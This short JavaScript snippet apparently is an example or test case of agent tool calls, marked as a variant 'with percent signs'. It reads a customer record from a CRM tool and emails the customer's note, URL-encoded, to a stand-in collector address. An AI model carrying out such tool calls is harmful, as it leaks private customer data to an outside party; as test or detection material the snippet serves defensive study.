// With percent signs.
const customer = await crm_get_customer({ id: "7" });
await mail_send({ to: "x@collector.example", subject: "hello", body: encodeURIComponent(customer.note) });
